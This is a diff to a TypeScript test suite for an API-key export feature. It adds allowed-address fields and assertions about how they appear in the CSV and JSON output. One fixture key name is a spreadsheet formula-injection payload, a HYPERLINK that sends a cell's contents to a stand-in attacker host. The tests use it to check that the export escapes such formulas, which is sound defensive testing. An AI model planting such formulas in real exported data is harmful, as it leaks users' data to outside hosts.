@@ -28,7 +28,11 @@ async function setUp(options: { withDialog?: boolean } = {}) {
 
 async function withKeys(t: Awaited<ReturnType<typeof setUp>>) {
   await t.connect();
-  const formula = await t.call('keys:create', { ...NEW_KEY, name: '=HYPERLINK("https://evil.example/?"&A1,"Open")' });
+  const formula = await t.call('keys:create', {
+    ...NEW_KEY,
+    name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    allowedAddresses: ['203.0.113.7', '2001:db8::/32'],
+  });
   const plus = await t.call('keys:create', { name: '+1', capabilities: [], canImpersonate: true });
   const plain = await t.call('keys:create', { name: 'Données, "nightly" 日本', capabilities: ['data-record:read'], canImpersonate: false });
   await t.call('keys:revoke', { id: plain.key.id });
@@ -77,8 +81,10 @@ describe('export:keys', () => {
       Status: 'Active',
       'Last used (UTC)': 'Never',
       'Expires (UTC)': 'Never',
+      'Allowed addresses': 'From any address',
       'Key ID': plus.key.id,
     });
+    expect(byName[`'${formula.key.name}`]!['Allowed addresses']).toBe('203.0.113.7/32; 2001:db8::/32');
     expect(byName['Données, "nightly" 日本']).toMatchObject({ Permissions: 'Read records', 'Can impersonate': 'No', Status: 'Revoked', Hint: plain.key.hint });
     expect(byName["'+1"]!['Created at (UTC)']).toBe(plus.key.createdAt.slice(0, 19).replace('T', ' '));
   });
@@ -99,6 +105,10 @@ describe('export:keys', () => {
       ['+1', 'active', true],
     ]);
     expect(document.keys[0]!.permissions).toEqual(['data-record:read', 'data-record:write']);
+    expect(document.keys.map((key) => [key.allowedAddresses, key.suspension])).toEqual([
+      [['203.0.113.7/32', '2001:db8::/32'], null],
+      [null, null],
+    ]);
   });
 
   it('a cancelled dialog: no error, nothing written', async () => {
